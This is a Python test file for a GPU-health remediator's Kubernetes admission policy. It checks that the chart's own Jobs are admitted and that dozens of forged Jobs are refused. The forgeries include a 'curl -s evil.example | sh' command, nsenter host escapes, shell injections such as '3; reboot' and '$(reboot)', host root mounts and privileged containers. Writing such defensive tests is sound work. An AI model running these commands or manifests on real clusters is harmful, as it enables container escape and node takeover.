"""The remediator's ServiceAccount may create Jobs in a privileged namespace: the chart's ValidatingAdmissionPolicy
admits from it only Jobs of the four templates' shape (reset, reboot, evidence, diagnose; the forgeries of each:
test_node_action_jobs_forgery.py). The fake API server enforces the rendered policy with its own CEL
(tests/fakes/apiserver/admission.py), against Jobs rendered by the real gpuhealth/remediator/act/node_jobs.py and
diagnose_job.py and sent by the official client with the remediator's token."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from kubernetes import client
from kubernetes.client.exceptions import ApiException

from gpuhealth.remediator.act.diagnose_job import render_diagnose_job
from gpuhealth.remediator.act.node_jobs import render_job
from gpuhealth.remediator.decide.diagnosis import Provisioned
from gpuhealth.remediator.decide.vocabulary import Purpose
from gpuhealth.remediator.policy import Policy
from gpuhealth.remediator.policy.integrations import DiagnoseSettings
from tests.fakes.apiserver import FakeCluster
from tests.support import chart_rbac
from tests.support.chart_render import render

NS = "gpuhealth"
POLICY_NAME = "gpuhealth-remediator-node-action-jobs"
MIRROR = "registry.example.com/mirror/cuda@sha256:" + "ab" * 32


chart_policy = chart_rbac.chart_policy


@pytest.fixture
def cluster() -> Iterator[FakeCluster]:
    with FakeCluster() as c:
        c.add_node("gpu-0")
        chart_rbac.enforce(c)
        yield c


def _batch(cluster: FakeCluster, token: str = chart_rbac.REMEDIATOR_TOKEN) -> client.BatchV1Api:
    return client.BatchV1Api(client.ApiClient(chart_rbac.configuration(cluster, token)))


def _refused(cluster: FakeCluster, job: dict[str, Any]) -> dict[str, Any]:
    with pytest.raises(ApiException) as err:
        _batch(cluster).create_namespaced_job(NS, job)
    assert err.value.status == 403
    status: dict[str, Any] = json.loads(err.value.body)
    assert status["reason"] == "Forbidden"
    assert f"ValidatingAdmissionPolicy '{POLICY_NAME}' with binding '{POLICY_NAME}' denied request" in status["message"]
    assert (NS, job["metadata"]["name"]) not in cluster.jobs  # nothing was stored
    return status


@pytest.mark.parametrize(("rung", "gpu"), [("reset_gpu", "3"), ("reset_gpu", "00000000:9B:00.0"),
                                           ("reset_gpu", "all"), ("reboot", None)])
def test_the_remediators_own_jobs_as_the_chart_configures_them_are_admitted(cluster: FakeCluster, rung: str,
                                                                           gpu: str | None) -> None:
    policy = chart_policy()
    job = render_job(rung, f"gpuhealth-{rung}-x", "gpu-0", policy, gpu)
    _batch(cluster).create_namespaced_job(NS, job)
    spec = cluster.jobs[(NS, job["metadata"]["name"])]["spec"]["template"]["spec"]
    assert spec["runtimeClassName"] == "nvidia" and spec["priorityClassName"] == "system-node-critical"
    assert spec["containers"][0]["resources"] == {"requests": {"cpu": "10m", "memory": "64Mi"}}


def _reset() -> dict[str, Any]:
    return render_job("reset_gpu", "gpuhealth-reset-forged", "gpu-0", chart_policy(), "3")


def _container(job: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = job["spec"]["template"]["spec"]["containers"][0]
    return container


def _forge(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
    job = _reset()
    change(job)
    return job


FORGED: dict[str, Callable[[dict[str, Any]], object]] = {
    "another image": lambda j: _container(j).update(image="docker.io/library/alpine:3"),
    "another command": lambda j: _container(j).update(command=["bash", "-c", "curl -s evil.example | sh"]),
    "the reset script changed": lambda j: _container(j)["command"].__setitem__(2, "nsenter -t 1 -m -- sh -c id"),
    "a shell in the gpu argument": lambda j: _container(j)["command"].__setitem__(4, "3; reboot"),
    "args after the command": lambda j: _container(j).update(args=["--", "extra"]),
    "an environment for bash": lambda j: _container(j).update(env=[{"name": "BASH_ENV", "value": "/host/x"}]),
    "a lifecycle hook": lambda j: _container(j).update(
        lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}),
    "a privileged extra container": lambda j: j["spec"]["template"]["spec"]["containers"].append(
        {"name": "shell", "image": "nvcr.io/nvidia/cuda:12.4.1-base-ubuntu22.04", "command": ["sleep", "inf"],
         "securityContext": {"privileged": True}}),
    "an init container": lambda j: j["spec"]["template"]["spec"].update(initContainers=[
        {"name": "i", "image": "nvcr.io/nvidia/cuda:12.4.1-base-ubuntu22.04", "command": ["sh"]}]),
    "another ServiceAccount": lambda j: j["spec"]["template"]["spec"].update(serviceAccountName="gpuhealth-remediator"),
    "a token mounted": lambda j: j["spec"]["template"]["spec"].update(automountServiceAccountToken=True),
    "the host's root mounted": lambda j: (
        j["spec"]["template"]["spec"]["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
        _container(j)["volumeMounts"].append({"name": "root", "mountPath": "/host"})),
    "the host network": lambda j: j["spec"]["template"]["spec"].update(hostNetwork=True),
    "no node": lambda j: j["spec"]["template"]["spec"].pop("nodeName"),
    "a node its label does not name": lambda j: j["spec"]["template"]["spec"].update(nodeName="gpu-1"),
    "not a gpuhealth Job": lambda j: j["metadata"]["labels"].update({"app.kubernetes.io/name": "other"}),
    # What makes the kubelet evict a node's workloads for the Job's pod, or weighs more on the node than the templates
    "huge resource requests": lambda j: _container(j).update(resources={"requests": {"cpu": "64", "memory": "1Ti"}}),
    "requests in another unit above the cap": lambda j: _container(j)["resources"]["requests"].update(memory="1G"),
    "limits the templates do not set": lambda j: _container(j)["resources"].update(limits={"memory": "512Gi"}),
    "a resource the templates do not ask for": lambda j: _container(j)["resources"]["requests"].update(
        {"nvidia.com/gpu": "8"}),
    "a container resource claim": lambda j: _container(j)["resources"].update(claims=[{"name": "gpus"}]),
    "pod resource claims": lambda j: j["spec"]["template"]["spec"].update(
        resourceClaims=[{"name": "gpus", "resourceClaimName": "all-gpus"}]),
    "pod-level resources": lambda j: j["spec"]["template"]["spec"].update(resources={"requests": {"memory": "1Ti"}}),
    "another priority class": lambda j: j["spec"]["template"]["spec"].update(priorityClassName="evict-everything"),
    "no priority class": lambda j: j["spec"]["template"]["spec"].pop("priorityClassName"),
    "a priority value": lambda j: j["spec"]["template"]["spec"].update(priority=2_000_001_000),
    "a preemption policy": lambda j: j["spec"]["template"]["spec"].update(preemptionPolicy="PreemptLowerPriority"),
    "another runtime class": lambda j: j["spec"]["template"]["spec"].update(runtimeClassName="kata"),
    "an overhead": lambda j: j["spec"]["template"]["spec"].update(overhead={"memory": "1Ti"}),
    "an extra toleration": lambda j: j["spec"]["template"]["spec"]["tolerations"].append(
        {"key": "node.kubernetes.io/unschedulable", "operator": "Exists", "effect": "NoSchedule"}),
    "a toleration with a bounded stay": lambda j: j["spec"]["template"]["spec"]["tolerations"][0].update(
        effect="NoExecute", tolerationSeconds=1),
    "no host PID namespace": lambda j: j["spec"]["template"]["spec"].pop("hostPID"),
    "a shared process namespace": lambda j: j["spec"]["template"]["spec"].update(shareProcessNamespace=True),
    "a pod securityContext with sysctls": lambda j: j["spec"]["template"]["spec"].update(
        securityContext={"sysctls": [{"name": "kernel.shm_rmid_forced", "value": "1"}]}),
    "a container securityContext beyond privileged": lambda j: _container(j)["securityContext"].update(
        procMount="Unmasked", capabilities={"add": ["ALL"]}),
    "another image pull secret": lambda j: j["spec"]["template"]["spec"].update(
        imagePullSecrets=[{"name": "someone-elses"}]),
    "host aliases": lambda j: j["spec"]["template"]["spec"].update(
        hostAliases=[{"ip": "10.0.0.1", "hostnames": ["nvcr.io"]}]),
    "an affinity": lambda j: j["spec"]["template"]["spec"].update(affinity={"nodeAffinity": {}}),
    "a restart policy that retries in place": lambda j: j["spec"]["template"]["spec"].update(
        restartPolicy="OnFailure"),
    "a longer termination grace period": lambda j: j["spec"]["template"]["spec"].update(
        terminationGracePeriodSeconds=86400),
    "many pods at once": lambda j: j["spec"].update(parallelism=100, completions=100),
    "many completions": lambda j: j["spec"].update(completions=100),
    "retries": lambda j: j["spec"].update(backoffLimit=6),
    "a selector of its own": lambda j: j["spec"].update(
        manualSelector=True, selector={"matchLabels": {"app": "training"}}),
    "a pod failure policy": lambda j: j["spec"].update(podFailurePolicy={"rules": []}),
}


@pytest.mark.parametrize("forgery", sorted(FORGED))
def test_a_forged_job_from_the_remediators_account_is_refused_403(cluster: FakeCluster, forgery: str) -> None:
    _refused(cluster, _forge(FORGED[forgery]))


def test_a_reboot_command_in_a_reset_jobs_clothes_is_refused(cluster: FakeCluster) -> None:
    reboot = render_job("reboot", "gpuhealth-reboot-x", "gpu-0", chart_policy())
    job = _reset()
    _container(job)["command"] = _container(reboot)["command"]
    status = _refused(cluster, job)
    assert "a reset Job's command is this chart's reset script" in status["message"]


def test_a_critical_reset_job_asking_for_the_nodes_memory_is_refused(cluster: FakeCluster) -> None:
    """The reviewer's forgery: the chart's critical class with requests the size of the node, which makes the kubelet
    evict the node's workloads to admit it."""
    job = _reset()
    _container(job)["resources"] = {"requests": {"cpu": "96", "memory": "2Ti"}, "limits": {"memory": "2Ti"}}
    status = _refused(cluster, job)
    assert "asks for no more than policy jobs.resources" in status["message"]


def test_requests_within_the_cap_written_another_way_are_admitted(cluster: FakeCluster) -> None:
    """The cap compares quantities by value, as the API server writes them back (0.01 is 10m; 32Mi is below 64Mi)."""
    job = _reset()
    _container(job)["resources"] = {"requests": {"cpu": "0.01", "memory": "32Mi"}}
    _batch(cluster).create_namespaced_job(NS, job)
    assert (NS, job["metadata"]["name"]) in cluster.jobs


def test_the_job_as_the_api_server_defaults_it_is_what_the_policy_admits(cluster: FakeCluster) -> None:
    """Admission sees the defaulted Job (tests/fakes/apiserver/defaults.py); the policy admits those defaults at their
    values."""
    job = _reset()
    _batch(cluster).create_namespaced_job(NS, job)
    stored = cluster.jobs[(NS, job["metadata"]["name"])]
    pod = stored["spec"]["template"]["spec"]
    assert stored["spec"]["parallelism"] == 1 and stored["spec"]["completions"] == 1
    assert pod["dnsPolicy"] == "ClusterFirst" and pod["terminationGracePeriodSeconds"] == 30
    assert pod["securityContext"] == {} and pod["serviceAccount"] == pod["serviceAccountName"]
    assert pod["volumes"][0]["hostPath"]["type"] == ""
    assert pod["containers"][0]["terminationMessagePolicy"] == "File"


@pytest.mark.parametrize("rung", ["reset_gpu", "reboot"])
def test_without_priority_or_runtime_class_the_jobs_carry_none_and_a_forged_one_is_refused(rung: str) -> None:
    """runtimeClassName "" and priorityClassName "": the Jobs render neither, and a Job that sets one is refused."""
    values = {"remediator": {"jobs": {"runtimeClassName": "", "priorityClassName": "", "resources": None}}}
    policy = chart_policy(values)
    with FakeCluster() as c:
        c.add_node("gpu-0")
        chart_rbac.enforce(c, values)
        job = render_job(rung, f"gpuhealth-{rung}-plain", "gpu-0", policy, "1")
        spec = job["spec"]["template"]["spec"]
        assert "priorityClassName" not in spec and "runtimeClassName" not in spec
        assert "resources" not in _container(job)
        _batch(c).create_namespaced_job(NS, copy.deepcopy(job))
        for field, value in (("priorityClassName", "system-node-critical"), ("runtimeClassName", "nvidia")):
            forged = copy.deepcopy(job)
            forged["metadata"]["name"] += f"-{field.lower()}"
            forged["spec"]["template"]["spec"][field] = value
            _refused(c, forged)
        requests = copy.deepcopy(job)
        requests["metadata"]["name"] += "-requests"
        _container(requests)["resources"] = {"requests": {"cpu": "10m"}}
        _refused(c, requests)  # jobs.resources null: no requests at all


def test_the_policy_binds_the_remediator_alone(cluster: FakeCluster) -> None:
    """A person (cluster-admin) creating a Job of their own there is not the remediator: not this policy's matter."""
    job = _forge(FORGED["another image"])
    _batch(cluster, chart_rbac.ADMIN_TOKEN).create_namespaced_job(NS, copy.deepcopy(job))
    assert (NS, job["metadata"]["name"]) in cluster.jobs


def test_a_mirrored_job_image_is_one_value_that_the_jobs_run_and_the_policy_admits() -> None:
    values = {"remediator": {"jobs": {"image": MIRROR, "imagePullSecrets": [{"name": "mirror-pull"}]}}}
    policy = chart_policy(values)
    assert policy.jobs.image == MIRROR and policy.jobs.image_pull_secrets == ("mirror-pull",)
    with FakeCluster() as c:
        c.add_node("gpu-0")
        chart_rbac.enforce(c, values)
        for rung in ("reset_gpu", "reboot"):
            job = render_job(rung, f"gpuhealth-{rung}-m", "gpu-0", policy, "1")
            assert job["spec"]["template"]["spec"]["imagePullSecrets"] == [{"name": "mirror-pull"}]
            _batch(c).create_namespaced_job(NS, job)
        default = render_job("reboot", "gpuhealth-reboot-default", "gpu-0", Policy())
        _refused(c, default)  # the upstream image is no longer the one admitted


def test_the_policy_can_be_turned_off() -> None:
    kinds = {(d["kind"], d["metadata"]["name"]) for d in
             render({"remediator": {"jobs": {"admissionPolicy": {"enabled": False}}}})}
    assert ("ValidatingAdmissionPolicy", POLICY_NAME) not in kinds
    assert ("ValidatingAdmissionPolicy", POLICY_NAME) in {(d["kind"], d["metadata"]["name"]) for d in render()}


# The diagnostic Job (gpuhealth/remediator/act/templates/diagnose.yaml.j2): the DCGM collect step, privileged, as an
# init container, and gpuhealth's judge, unprivileged, with an emptyDir between them and the host's /sys read-only.
P5 = Provisioned(gpus=8, efa=32, instance_type="p5.48xlarge")
DCGM_MIRROR = "registry.example.com/mirror/dcgm@sha256:" + "cd" * 32


def _diagnose(policy: Policy | None = None, purpose: Purpose = Purpose.DIAGNOSE,
              given: Provisioned = P5) -> dict[str, Any]:
    return render_diagnose_job(f"gpuhealth-{purpose}-gpu-0-1a2b3c4d", "gpu-0", purpose, given,
                               policy or chart_policy())


def _collect(job: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = job["spec"]["template"]["spec"]["initContainers"][0]
    return container


def _judge(job: dict[str, Any]) -> dict[str, Any]:
    return _container(job)


def test_the_charts_collect_image_is_the_remediators_default() -> None:
    """The policy admits diagnose.image at the remediator's own default when the chart's policy names none."""
    assert chart_policy().diagnose.image == DiagnoseSettings().image
    assert f"runs {DiagnoseSettings().image} (policy diagnose.image)" in json.dumps(
        next(d for d in render() if d["kind"] == "ValidatingAdmissionPolicy" and d["metadata"]["name"] == POLICY_NAME))


@pytest.mark.parametrize(("purpose", "given"), [(Purpose.DIAGNOSE, P5), (Purpose.VALIDATE, P5),
                                                (Purpose.SWEEP, Provisioned(None, None, "")),
                                                (Purpose.DIAGNOSE, Provisioned(8, None, "Standard_ND96isr_H100_v5"))])
def test_the_diagnostic_job_as_the_chart_configures_it_is_admitted(cluster: FakeCluster, purpose: Purpose,
                                                                   given: Provisioned) -> None:
    job = _diagnose(purpose=purpose, given=given)
    _batch(cluster).create_namespaced_job(NS, job)
    pod = cluster.jobs[(NS, job["metadata"]["name"])]["spec"]["template"]["spec"]
    assert [c["name"] for c in pod["initContainers"]] == ["collect"] and pod["containers"][0]["name"] == "judge"
    assert pod["containers"][0]["image"] == chart_policy().diagnose.judge_image
    assert "hostPID" not in pod and "securityContext" not in pod["containers"][0]


@pytest.mark.parametrize("level", [2, 3])
def test_the_diagnostic_job_with_the_policys_level_and_floor_is_admitted(level: int) -> None:
    values = {"remediator": {"policy": {"diagnose": {"level": level, "nccl_floor_gbps": 350, "timeout": "90m"}}}}
    policy = chart_policy(values)
    with FakeCluster() as c:
        c.add_node("gpu-0")
        chart_rbac.enforce(c, values)
        job = _diagnose(policy)
        assert _judge(job)["command"][-2:] == ["--nccl-floor", "350"] and _collect(job)["command"][4] == str(level)
        _batch(c).create_namespaced_job(NS, job)
        assert (NS, job["metadata"]["name"]) in c.jobs


def test_mirrored_diagnostic_images_are_the_ones_the_policy_admits() -> None:
    values = {"image": {"repository": "registry.example.com/mirror/gpuhealth", "tag": "0.2.0"},
              "remediator": {"policy": {"diagnose": {"image": DCGM_MIRROR}}}}
    policy = chart_policy(values)
    assert policy.diagnose.image == DCGM_MIRROR
    assert policy.diagnose.judge_image == "registry.example.com/mirror/gpuhealth:0.2.0"
    with FakeCluster() as c:
        c.add_node("gpu-0")
        chart_rbac.enforce(c, values)
        _batch(c).create_namespaced_job(NS, _diagnose(policy))
        upstream = _diagnose(chart_policy(), Purpose.VALIDATE)
        assert "diagnose.image" in _refused(c, upstream)["message"]  # the upstream images are no longer admitted


def _forge_diagnose(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
    job = _diagnose()
    change(job)
    return job


def _pod(job: dict[str, Any]) -> dict[str, Any]:
    pod: dict[str, Any] = job["spec"]["template"]["spec"]
    return pod


def _volume(job: dict[str, Any], name: str) -> dict[str, Any]:
    volume: dict[str, Any] = next(v for v in _pod(job)["volumes"] if v["name"] == name)
    return volume


def _arg(container: dict[str, Any], flag: str, value: str) -> None:
    container["command"][container["command"].index(flag) + 1] = value


FORGED_DIAGNOSE: dict[str, Callable[[dict[str, Any]], object]] = {
    "another collect image": lambda j: _collect(j).update(image="docker.io/library/ubuntu:24.04"),
    "the job image in the collect step": lambda j: _collect(j).update(image=chart_policy().jobs.image),
    "another judge image": lambda j: _judge(j).update(image="docker.io/library/python:3.11"),
    "the collect image as the judge": lambda j: _judge(j).update(image=chart_policy().diagnose.image),
    "the collect script changed": lambda j: _collect(j)["command"].__setitem__(2, "nsenter -t 1 -m -- sh -c id"),
    "another collect command": lambda j: _collect(j).update(command=["bash", "-c", "curl -s evil.example | sh"]),
    "a shell in the level": lambda j: _collect(j)["command"].__setitem__(4, "2; reboot"),
    "a level dcgmi does not have": lambda j: _collect(j)["command"].__setitem__(4, "4"),
    "seconds that are not a number": lambda j: _collect(j)["command"].__setitem__(5, "$(reboot)"),
    "an extra argument to the collect script": lambda j: _collect(j)["command"].append("--extra"),
    "args after the collect command": lambda j: _collect(j).update(args=["x"]),
    "an environment for bash": lambda j: _collect(j)["env"].append({"name": "BASH_ENV", "value": "/diag/x"}),
    "an environment from a secret": lambda j: _collect(j).update(envFrom=[{"secretRef": {"name": "s"}}]),
    "an environment for the judge": lambda j: _judge(j).update(env=[{"name": "PYTHONSTARTUP", "value": "/x"}]),
    "the collect step as a sidecar": lambda j: _collect(j).update(restartPolicy="Always"),
    "a collect step that is not privileged": lambda j: _collect(j).pop("securityContext"),
    "a collect securityContext beyond privileged": lambda j: _collect(j)["securityContext"].update(
        capabilities={"add": ["ALL"]}),
    "a privileged judge": lambda j: _judge(j).update(securityContext={"privileged": True}),
    "a judge with capabilities": lambda j: _judge(j).update(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}),
    "another judge command": lambda j: _judge(j).update(command=["python", "-c", "import os; os.system('id')"]),
    "an extra judge argument": lambda j: _judge(j)["command"].append("--verbose"),
    "a judge at another level than the collect step": lambda j: _arg(_judge(j), "--level", "3"),
    "an option for an instance type": lambda j: _arg(_judge(j), "--instance-type", "--dir"),
    "a GPU count that is not a number": lambda j: _arg(_judge(j), "--gpus-expected", "eight"),
    "another sysfs root": lambda j: _arg(_judge(j), "--sysfs-root", "/"),
    "the host's root instead of /sys": lambda j: _volume(j, "host-sys")["hostPath"].update(path="/"),
    "another hostPath volume": lambda j: (
        _pod(j)["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
        _judge(j)["volumeMounts"].append({"name": "root", "mountPath": "/host/root", "readOnly": True})),
    "the host's /sys writable in the judge": lambda j: _judge(j)["volumeMounts"][1].pop("readOnly"),
    "the host's /sys in the collect step": lambda j: _collect(j)["volumeMounts"].append(
        {"name": "host-sys", "mountPath": "/host/sys", "readOnly": True}),
    "the emptyDir in memory": lambda j: _volume(j, "diag").update(emptyDir={"medium": "Memory", "sizeLimit": "1Ti"}),
    "the emptyDir as a hostPath": lambda j: _volume(j, "diag").update(emptyDir=None, hostPath={"path": "/var/lib"}),
    "a mount with propagation": lambda j: _collect(j)["volumeMounts"][0].update(mountPropagation="Bidirectional"),
    "a second init container": lambda j: _pod(j)["initContainers"].append(copy.deepcopy(_collect(j)) | {"name": "c2"}),
    "no collect step": lambda j: _pod(j).pop("initContainers"),
    "a privileged extra container": lambda j: _pod(j)["containers"].append(
        {"name": "shell", "image": chart_policy().diagnose.image, "command": ["sleep", "inf"],
         "securityContext": {"privileged": True}}),
    "the host PID namespace": lambda j: _pod(j).update(hostPID=True),
    "the host network": lambda j: _pod(j).update(hostNetwork=True),
    "another ServiceAccount": lambda j: _pod(j).update(serviceAccountName="gpuhealth-remediator"),
    "a token mounted": lambda j: _pod(j).update(automountServiceAccountToken=True),
    "a node its label does not name": lambda j: _pod(j).update(nodeName="gpu-1"),
    "huge requests in the collect step": lambda j: _collect(j).update(resources={"requests": {"memory": "1Ti"}}),
    "a resource the templates do not ask for": lambda j: _collect(j)["resources"]["requests"].update(
        {"nvidia.com/gpu": "8"}),
    "retries": lambda j: j["spec"].update(backoffLimit=6),
}


@pytest.mark.parametrize("forgery", sorted(FORGED_DIAGNOSE))
def test_a_forged_diagnostic_job_is_refused_403(cluster: FakeCluster, forgery: str) -> None:
    _refused(cluster, _forge_diagnose(FORGED_DIAGNOSE[forgery]))


def test_a_reset_job_labelled_as_a_diagnosis_and_a_diagnosis_labelled_as_a_reset_are_refused(
        cluster: FakeCluster) -> None:
    reset = _reset()
    reset["metadata"]["labels"]["app.kubernetes.io/component"] = "diagnose"
    assert "init: only the diagnostic Job's one" in _refused(cluster, reset)["message"]
    diagnosis = _diagnose()
    diagnosis["metadata"]["labels"]["app.kubernetes.io/component"] = "reset-gpu"
    _refused(cluster, diagnosis)


def test_a_reset_in_the_collect_steps_clothes_is_refused(cluster: FakeCluster) -> None:
    """The collect step runs privileged in the DCGM image: only the chart's collect script may run there."""
    job = _diagnose()
    _collect(job)["command"] = _container(_reset())["command"]
    assert "this chart's collect script" in _refused(cluster, job)["message"]


def test_the_diagnostic_job_without_a_judge_image_in_the_chart_is_refused_whatever_its_judge() -> None:
    values = {"remediator": {"policy": {"diagnose": {"judge_image": None}}}}
    assert chart_policy(values).diagnose.judge_image is None
    with FakeCluster() as c:
        c.add_node("gpu-0")
        chart_rbac.enforce(c, values)
        for image in (chart_policy().diagnose.judge_image, ""):
            job = _diagnose()
            job["metadata"]["name"] += f"-{len(image or '')}"
            _judge(job)["image"] = image
            assert "judge_image is not set" in _refused(c, job)["message"]
